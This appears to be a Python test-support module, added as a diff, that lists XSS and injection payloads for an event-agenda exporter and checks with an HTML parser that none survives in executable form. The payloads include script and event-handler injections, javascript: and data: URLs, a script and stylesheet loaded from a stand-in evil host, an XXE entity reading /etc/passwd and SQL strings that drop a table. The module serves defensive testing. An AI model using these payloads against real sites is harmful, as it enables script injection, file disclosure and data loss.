@@ -1,0 +1,186 @@
+"""Corpus of XSS / injection payloads and the checks that prove none survives in an executable form."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from dataclasses import dataclass
+from urllib.parse import urlsplit
+
+import lxml.html
+
+MARK = "ESSXSS"
+"""Every script payload calls alert('ESSXSS…'): any surviving marker in code position is a hit."""
+
+
+@dataclass(frozen=True)
+class Payload:
+    name: str
+    text: str
+
+
+# HTML/markup payloads: placed in titles, descriptions and locations.
+MARKUP: list[Payload] = [
+    Payload("script", f"<script>alert('{MARK}1')</script>"),
+    Payload("script_upper", f"<SCRIPT>alert('{MARK}2')</SCRIPT>"),
+    Payload("script_src", f'<script src="https://evil.example/{MARK}3.js"></script>'),
+    Payload("script_split", f"<scr<script>ipt>alert('{MARK}4')</scr</script>ipt>"),
+    Payload("script_unclosed", f"<script>alert('{MARK}5')"),
+    Payload("script_in_attr_break", f"\"><script>alert('{MARK}6')</script>"),
+    Payload("script_single_quote_break", f"'><script>alert('{MARK}7')</script>"),
+    Payload("img_onerror", f"<img src=x onerror=alert('{MARK}8')>"),
+    Payload("img_onerror_nospace", f"<img/src=x/onerror=alert('{MARK}9')>"),
+    Payload("body_onload", f"<body onload=alert('{MARK}10')>"),
+    Payload("div_onmouseover", f"<div onmouseover=\"alert('{MARK}11')\">survol</div>"),
+    Payload("a_javascript", f"<a href=\"javascript:alert('{MARK}12')\">inscription</a>"),
+    Payload("a_javascript_case", f"<a href=\"JaVaScRiPt:alert('{MARK}13')\">inscription</a>"),
+    Payload("a_javascript_entities", f"<a href=\"&#106;avascript:alert('{MARK}14')\">lien</a>"),
+    Payload("a_javascript_tab", f"<a href=\"java\tscript:alert('{MARK}15')\">lien</a>"),
+    Payload("a_javascript_leading_space", f"<a href=\" javascript:alert('{MARK}16')\">lien</a>"),
+    Payload("a_vbscript", f"<a href=\"vbscript:msgbox('{MARK}17')\">lien</a>"),
+    Payload("a_data_html", f"<a href=\"data:text/html,<script>alert('{MARK}18')</script>\">lien</a>"),
+    Payload("a_data_b64", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnRVNTWFNTMTknKTwvc2NyaXB0Pg==\">"
+            f"lien {MARK}19</a>"),
+    Payload("img_data_svg", f"<img src=\"data:image/svg+xml,<svg onload=alert('{MARK}20')>\">"),
+    Payload("svg_onload", f"<svg onload=alert('{MARK}21')>"),
+    Payload("svg_script", f"<svg><script>alert('{MARK}22')</script></svg>"),
+    Payload("svg_animate", f"<svg><animate onbegin=alert('{MARK}23') attributeName=x dur=1s>"),
+    Payload("svg_xlink", f"<svg><a xlink:href=\"javascript:alert('{MARK}24')\"><text x=20 y=20>X</text></a></svg>"),
+    Payload("math_xlink", f"<math><mtext><a xlink:href=\"javascript:alert('{MARK}25')\">m</a></mtext></math>"),
+    Payload("iframe", f"<iframe src=\"javascript:alert('{MARK}26')\"></iframe>"),
+    Payload("iframe_srcdoc", f"<iframe srcdoc=\"<script>alert('{MARK}27')</script>\"></iframe>"),
+    Payload("object", f"<object data=\"javascript:alert('{MARK}28')\"></object>"),
+    Payload("embed", f"<embed src=\"javascript:alert('{MARK}29')\">"),
+    Payload("form_action", f"<form action=\"javascript:alert('{MARK}30')\"><button>ok</button></form>"),
+    Payload("button_formaction", f"<button formaction=\"javascript:alert('{MARK}31')\">ok</button>"),
+    Payload("input_autofocus", f"<input autofocus onfocus=alert('{MARK}32')>"),
+    Payload("details_ontoggle", f"<details open ontoggle=alert('{MARK}33')>"),
+    Payload("marquee_onstart", f"<marquee onstart=alert('{MARK}34')>défilant</marquee>"),
+    Payload("video_source_onerror", f"<video><source onerror=\"alert('{MARK}35')\"></video>"),
+    Payload("style_expression", f"<div style=\"background:url(javascript:alert('{MARK}36'))\">fond</div>"),
+    Payload("style_tag", f"<style>@import 'https://evil.example/{MARK}37.css';</style>"),
+    Payload("link_import", f"<link rel=stylesheet href=\"javascript:alert('{MARK}38')\">"),
+    Payload("meta_refresh", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{MARK}39')\">"),
+    Payload("base_href", f"<base href=\"javascript:alert('{MARK}40')//\">"),
+    Payload("comment_breakout", f"<!--<img src=\"--><img src=x onerror=alert('{MARK}41')//\">"),
+    Payload("cdata_terminator", f"]]><script>alert('{MARK}42')</script><![CDATA["),
+    Payload("cdata_in_text", "Tarif : 5 € ]]> gratuit pour les adhérents ]]>"),
+    Payload("broken_markup", f"<p><b>Atelier <i>coopératif</b></p><div <img src=x onerror=alert('{MARK}43')>"),
+    Payload("unclosed_attr", f"<a href=\"https://exemple.fr/x onmouseover=alert('{MARK}44')>lien"),
+    Payload("noscript_breakout", f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}45')>\">"),
+    Payload("template_tag", f"<template><script>alert('{MARK}46')</script></template>"),
+    Payload("textarea_breakout", f"</textarea><script>alert('{MARK}47')</script>"),
+    Payload("title_breakout", f"</title><script>alert('{MARK}48')</script>"),
+    Payload("xml_entity", f"<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;{MARK}49"),
+    Payload("html_entities_script", f"&lt;script&gt;alert('{MARK}50')&lt;/script&gt;"),
+    Payload("double_encoded", f"%3Cscript%3Ealert('{MARK}51')%3C/script%3E"),
+    Payload("sql_quote", "Atelier d'été'); DROP TABLE events; --"),
+    Payload("sql_union", "x' UNION SELECT id, title FROM events --"),
+    Payload("json_breakout", f"\"}}, {{\"title\": \"{MARK}54\", \"x\": \""),
+    Payload("control_chars", "Réunion\x00 des\x08 adhérents\x0b\x0c\x1b[31m rouge\x7f fin"),
+    Payload("c1_controls", "Assemblée\x85 générale\x9b\x90 annuelle"),
+    Payload("rtl_override", "Inscription \u202eexe.cod\u202c avant le 3 décembre"),
+    Payload("bidi_isolates", "Salle \u2066A\u2069 puis \u2067B\u2069 et \u202dC\u202c"),
+    Payload("zero_width", "Forum\u200b\u200d\ufeff de l'ESS"),
+    Payload("lone_surrogate_like", "Café \udcff solidaire".encode("utf-8", "surrogateescape").decode("utf-8", "replace")),
+    Payload("long_string", "Économie sociale et solidaire " * 4000),
+    Payload("long_tag_soup", ("<div>" * 2000) + f"<img src=x onerror=alert('{MARK}62')>" + ("</div>" * 2000)),
+]
+
+# URL payloads: placed in url / registration_url / online_url / image and in <a href>.
+URLS: list[Payload] = [
+    Payload("url_javascript", f"javascript:alert('{MARK}u1')"),
+    Payload("url_javascript_case", f"JAVASCRIPT:alert('{MARK}u2')"),
+    Payload("url_javascript_ws", f"  \tjavascript:alert('{MARK}u3')"),
+    Payload("url_data", f"data:text/html,<script>alert('{MARK}u4')</script>"),
+    Payload("url_vbscript", f"vbscript:msgbox('{MARK}u5')"),
+    Payload("url_file", "file:///etc/passwd"),
+    Payload("url_ftp", "ftp://127.0.0.1/agenda.ics"),
+    Payload("url_mailto_script", f"mailto:x@example.org?body=<script>{MARK}u8</script>"),
+    Payload("url_quote_break", f"https://exemple.fr/\"><script>alert('{MARK}u9')</script>"),
+    Payload("url_attr_break", f"https://exemple.fr/' onmouseover='alert(\"{MARK}u10\")"),
+]
+
+CORPUS: list[Payload] = MARKUP + URLS
+
+SAFE_SCHEMES = {"http", "https", ""}
+URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "codebase",
+             "cite", "longdesc", "ping", "manifest", "srcset", "lowsrc", "dynsrc", "icon"}
+EXECUTABLE_TAGS = {"script", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "meta",
+                   "link", "style", "form", "svg", "math", "template", "noscript", "xml", "import"}
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+_BIDI_OVERRIDE = re.compile("[\u202a-\u202e\u2066-\u2069]")
+_TAG_IN_TEXT = re.compile(
+    r"<\s*/?\s*(script|iframe|object|embed|svg|math|img|style|link|meta|base|form|input|body|a|video|audio|"
+    r"details|marquee|template|textarea|button|noscript|frame|frameset|applet)\b",
+    re.IGNORECASE,
+)
+
+
+def url_scheme(url: str) -> str:
+    """Scheme as a browser would see it: control chars and whitespace inside the scheme are ignored."""
+    cleaned = re.sub(r"[\x00-\x20\x7f]", "", url)
+    m = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
+    return m.group(1).lower() if m else ""
+
+
+def is_published_url_ok(url: str | None) -> bool:
+    """A URL we publish (link, enclosure, registration, image) must be absolute http(s)."""
+    if url in (None, ""):
+        return True
+    s = urlsplit(url)
+    return s.scheme in ("http", "https") and bool(s.netloc) and not _CONTROL.search(url) and " " not in url
+
+
+def html_problems(markup: str, *, where: str, own_scripts_ok: bool = False) -> list[str]:
+    """Executable constructs in an HTML fragment or document, as found by a real HTML parser.
+
+    `own_scripts_ok`: a full page may carry the exporter's own <script>/<style>/<meta>/<link>;
+    those are allowed as long as no payload marker is in them.
+    """
+    if not markup.strip():
+        return []
+    problems: list[str] = []
+    doc = lxml.html.document_fromstring(markup) if "<html" in markup[:2000].lower() else lxml.html.fragment_fromstring(
+        markup, create_parent="div")
+    for el in doc.iter():
+        if not isinstance(el.tag, str):
+            continue
+        tag = el.tag.lower().rsplit("}", 1)[-1]
+        blob = lxml.html.tostring(el, encoding="unicode")
+        always_bad = {"iframe", "object", "embed", "applet", "svg", "math", "base", "frame", "frameset"}
+        if tag in EXECUTABLE_TAGS and (not own_scripts_ok or MARK in blob or tag in always_bad):
+            problems.append(f"{where}: <{tag}> element survives: {blob[:120]!r}")
+        for name, value in el.attrib.items():
+            lname = name.lower().rsplit("}", 1)[-1]
+            if lname.startswith("on"):
+                problems.append(f"{where}: event handler {name}={value[:80]!r} on <{tag}>")
+            if lname in URL_ATTRS or name.lower() == "xlink:href":
+                for part in value.split(",") if lname == "srcset" else [value]:
+                    if url_scheme(part.strip()) not in SAFE_SCHEMES | {"mailto", "tel"} or url_scheme(part.strip()) in {"mailto", "tel"} and MARK in part:
+                        problems.append(f"{where}: {name}={value[:80]!r} on <{tag}>")
+            if lname == "style" and re.search(r"(javascript|vbscript|expression\s*\(|url\s*\()", value, re.IGNORECASE):
+                problems.append(f"{where}: style={value[:80]!r} on <{tag}>")
+            if lname == "srcdoc":
+                problems.append(f"{where}: srcdoc on <{tag}>")
+    return problems
+
+
+def text_problems(text: str | None, *, where: str) -> list[str]:
+    """Problems in a plain-text field (title, location, iCal text): tags, controls, bidi overrides."""
+    if not text:
+        return []
+    problems = []
+    if _TAG_IN_TEXT.search(text):
+        problems.append(f"{where}: markup in plain text: {_TAG_IN_TEXT.search(text).group(0)!r} in {text[:100]!r}")
+    if _CONTROL.search(text):
+        problems.append(f"{where}: control character {_CONTROL.search(text).group(0)!r} in {text[:60]!r}")
+    if _BIDI_OVERRIDE.search(text):
+        problems.append(f"{where}: bidi override U+{ord(_BIDI_OVERRIDE.search(text).group(0)):04X} in {text[:60]!r}")
+    if any(unicodedata.category(c) == "Cs" for c in text):
+        problems.append(f"{where}: lone surrogate in {text[:60]!r}")
+    return problems
+
+
+def control_chars(text: str) -> list[str]:
+    return _CONTROL.findall(text)
